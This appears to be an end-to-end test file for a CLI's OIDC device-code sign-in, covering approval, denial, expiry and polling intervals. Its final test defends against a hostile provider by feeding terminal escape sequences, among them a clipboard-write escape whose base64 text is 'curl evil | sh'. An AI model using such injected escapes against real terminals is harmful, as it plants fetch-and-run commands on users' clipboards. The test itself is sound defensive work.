import { readFileSync, statSync, existsSync } from 'node:fs';
import { HttpStub } from '../../support/http-stub';
import { approveDevice } from '../support/device-approval';
import { approveDeviceInChromium, HeadlessChromium } from '../support/headless-chromium';
import { OidcServer } from '../support/oidc';
import { signIn, useProvider } from '../support/sign-in';
import { CliHome, CliResult, finished, waitForStderr } from '../support/skiff-home';
import { giteaStandIn, GOOD_GIT_TOKEN } from '../support/stand-ins';

/** The verification URI with the code, as `--device` prints it. */
const COMPLETE_URI = /(http:\/\/127\.0\.0\.1:\d+\/device\?user_code=\S+)/;

const servers: Array<{ stop?: () => Promise<void>; close?: () => Promise<void> }> = [];
const homes: CliHome[] = [];

afterAll(async () => {
  await Promise.all(servers.map((s) => (s.stop ?? s.close)?.call(s)));
  for (const home of homes) home.remove();
});

async function provider(env: NodeJS.ProcessEnv = {}): Promise<OidcServer> {
  const oidc = await OidcServer.start({ OIDC_DEVICE_INTERVAL: '1', ...env });
  servers.push(oidc);
  return oidc;
}

async function homeFor(oidc: OidcServer, services: string[] = []): Promise<CliHome> {
  const home = new CliHome();
  homes.push(home);
  await useProvider(home, oidc, { services });
  return home;
}

/** Starts `skiff <args> --device --no-browser` and waits for the URI it prints. */
async function startDevice(
  home: CliHome,
  args: string[],
  input = '',
): Promise<{ uri: string; done: Promise<CliResult> }> {
  const child = home.spawn([...args, '--device', '--no-browser']);
  const done = finished(child);
  child.stdin?.end(input);
  const [, uri] = await waitForStderr(child, COMPLETE_URI);
  return { uri, done };
}

const cacheOf = (home: CliHome) =>
  JSON.parse(readFileSync(home.cacheFile('e2e.test'), 'utf8')) as Record<string, string>;

describe('auth sso --device / auth login --device: the device authorization grant against a real provider', () => {
  it('approved by the user: prints the URI and code, polls at the interval, writes the cache as the browser flow does', async () => {
    const oidc = await provider();
    const home = await homeFor(oidc);
    const { uri, done } = await startDevice(home, ['auth', 'sso']);
    const approval = await approveDevice(uri);
    expect(approval.finalPage).toBe('Sign-in Success');
    const result = await done;
    expect(result).toMatchObject({ code: 0, stdout: 'Logged in to e2e.test as alice@example.com.\n' });
    expect(result.stderr).toMatch(
      /open http:\/\/127\.0\.0\.1:\d+\/device and enter the code:\n\n {2}[A-Z]{4}-[A-Z]{4}\n/,
    );
    const record = cacheOf(home);
    expect(Object.keys(record)).toEqual(['access_token', 'refresh_token', 'expires_at', 'id_token', 'domain']);
    expect(record.refresh_token).not.toBe('');
    expect(JSON.parse((await home.run(['auth', 'token', '--json'])).stdout)).toMatchObject({
      token: record.access_token,
      scopes: ['openid', 'email', 'profile', 'offline_access'],
      signIn: 'person',
    });
    expect(statSync(home.cacheFile('e2e.test')).mode & 0o777).toBe(0o600);
    expect(await home.run(['auth', 'token'])).toMatchObject({ code: 0, stdout: `${record.access_token}\n` });
    const polls = (await oidc.stats()).devicePolls;
    expect(polls.at(-1)).toMatchObject({ status: 200 });
    for (let i = 1; i < polls.length; i++) expect(polls[i].at - polls[i - 1].at).toBeGreaterThanOrEqual(900);
    for (const text of [result.stdout, result.stderr]) expect(text).not.toContain(record.access_token);
  });

  it("approved in a real browser (headless Chromium at the provider's pages)", async () => {
    const oidc = await provider();
    const home = await homeFor(oidc);
    const browser = await HeadlessChromium.start();
    try {
      const { uri, done } = await startDevice(home, ['auth', 'sso']);
      expect(await approveDeviceInChromium(browser, uri, 'carol')).toBe('Sign-in Success');
      expect(await done).toMatchObject({ code: 0, stdout: 'Logged in to e2e.test as carol@example.com.\n' });
    } finally {
      await browser.stop();
    }
  }, 60_000);

  it('slow_down adds 5 seconds to the interval', async () => {
    const oidc = await provider({ OIDC_DEVICE_SLOW_DOWN: '1' });
    const home = await homeFor(oidc);
    const { uri, done } = await startDevice(home, ['auth', 'sso']);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await approveDevice(uri);
    expect(await done).toMatchObject({ code: 0 });
    const polls = (await oidc.stats()).devicePolls;
    const slow = polls.findIndex((p) => p.error === 'slow_down');
    expect(slow).toBeGreaterThanOrEqual(0);
    expect(polls[slow + 1].at - polls[slow].at).toBeGreaterThanOrEqual(5900);
  }, 20_000);

  it('denied by the user: one line, exit 4, no cache', async () => {
    const oidc = await provider();
    const home = await homeFor(oidc);
    const { uri, done } = await startDevice(home, ['auth', 'sso']);
    expect((await approveDevice(uri, { deny: true })).finalPage).toBe('The Sign-in request was interrupted');
    const result = await done;
    expect(result.code).toBe(4);
    expect(result.stdout).toBe('');
    expect(result.stderr.trim().split('\n').at(-1)).toBe(
      'skiff: the sign-in was denied at the identity provider: run `skiff auth login --device` again to retry',
    );
    expect(existsSync(home.cacheFile('e2e.test'))).toBe(false);
  });

  it('a user who never approves: the code expires, one line, exit 4', async () => {
    const oidc = await provider({ OIDC_DEVICE_TTL: '2' });
    const home = await homeFor(oidc);
    const { done } = await startDevice(home, ['auth', 'sso']);
    const result = await done;
    expect(result.code).toBe(4);
    expect(result.stderr.trim().split('\n').at(-1)).toBe(
      'skiff: the device code expired before the sign-in was approved: run `skiff auth login --device` again',
    );
    expect(existsSync(home.cacheFile('e2e.test'))).toBe(false);
  });

  it('auth login --device: the device sign-in, then the git token', async () => {
    const oidc = await provider();
    const gitea = await giteaStandIn();
    servers.push(gitea);
    const home = await homeFor(oidc, ['--git-url', gitea.url]);
    const { uri, done } = await startDevice(home, ['auth', 'login'], `${GOOD_GIT_TOKEN}\n`);
    await approveDevice(uri, { login: 'bob' });
    const result = await done;
    expect(result).toMatchObject({
      code: 0,
      stdout: 'Logged in to e2e.test as bob@example.com.\nGit token of alice stored.\n',
    });
    expect(cacheOf(home).gitea_token).toBe(GOOD_GIT_TOKEN);
  });

  it('a provider without a device_authorization_endpoint: a configuration error naming the browser flow', async () => {
    const stub = await HttpStub.start();
    servers.push(stub);
    stub.on('GET /.well-known/openid-configuration', {
      body: { authorization_endpoint: `${stub.url}/auth`, token_endpoint: `${stub.url}/token` },
    });
    const home = new CliHome();
    homes.push(home);
    await home.run(['config', 'set-context', 'e2e', '--domain', 'e2e.test', '--auth-url', stub.url]);
    await home.run(['config', 'use-context', 'e2e']);
    const result = await home.run(['auth', 'login', '--device']);
    expect(result.code).toBe(3);
    expect(result.stderr.trim().split('\n').at(-1)).toMatch(
      /^skiff: the identity provider at 127\.0\.0\.1:\d+ offers no device sign-in .*device_authorization_endpoint.*`skiff auth login` without --device/,
    );
  });

  it('the browser flow with --no-browser on a machine with no display suggests --device, and still signs in', async () => {
    const oidc = await provider();
    const home = await homeFor(oidc);
    delete home.env.DISPLAY;
    delete home.env.WAYLAND_DISPLAY;
    const headless = await signIn(home, ['auth', 'sso']);
    expect(headless.result.code).toBe(0);
    expect(headless.result.stderr).toContain(
      'No display here: if your browser is on another machine, `skiff auth login --device` signs in with a code',
    );
    home.env.DISPLAY = ':0';
    const desktop = await signIn(home, ['auth', 'sso']);
    expect(desktop.result.code).toBe(0);
    expect(desktop.result.stderr).not.toContain('--device');
  });

  it('--device with --port is a usage error', async () => {
    const home = new CliHome();
    homes.push(home);
    const result = await home.run(['auth', 'sso', '--device', '--port', '9876', '--domain', 'x.example']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/--port.*cannot also be provided when using --device|--device.*--port/);
  });

  it("a provider's terminal escapes in user_code and verification_uri reach the terminal escaped, the URI as checked", async () => {
    // A stand-in provider, as the security review's (issue 41): ESC ] 0 (title), ESC [ 2 J (clear), ESC ] 52 (clipboard).
    const stub = await HttpStub.start();
    servers.push(stub);
    const userCode = 'AB\u001b]0;pwned\u0007CD\u001b[2J';
    const verificationUri = `${stub.url}/device\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007`;
    stub
      .on('GET /.well-known/openid-configuration', {
        body: {
          issuer: stub.url,
          authorization_endpoint: `${stub.url}/auth`,
          token_endpoint: `${stub.url}/token`,
          device_authorization_endpoint: `${stub.url}/device/auth`,
        },
      })
      .on('POST /device/auth', {
        body: {
          device_code: 'dc-1',
          user_code: userCode,
          verification_uri: verificationUri,
          verification_uri_complete: `${verificationUri}?user_code=\u001b[2J`,
          expires_in: 60,
          interval: 1,
        },
      })
      .on('POST /token', { status: 400, body: { error: 'access_denied' } });
    const home = await homeFor({ issuer: stub.url } as OidcServer);
    const result = await home.run(['auth', 'login', '--device', '--no-browser']);
    expect(result.code).toBe(4);
    // eslint-disable-next-line no-control-regex -- control characters are what this looks for
    const raw = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
    for (const text of [result.stdout, result.stderr]) expect(text).not.toMatch(raw);
    expect(result.stderr).toContain(
      // A URL's leading and trailing controls are dropped by its parser, the others percent-encoded.
      `open ${stub.url}/device%1B]52;c;Y3VybCBldmlsIHwgc2g= and enter the code:\n\n  AB\\u001b]0;pwned\\u0007CD\\u001b[2J\n`,
    );
    expect(result.stderr).toContain(`${stub.url}/device%1B]52;c;Y3VybCBldmlsIHwgc2g=%07?user_code=%1B[2J`);
  });
});
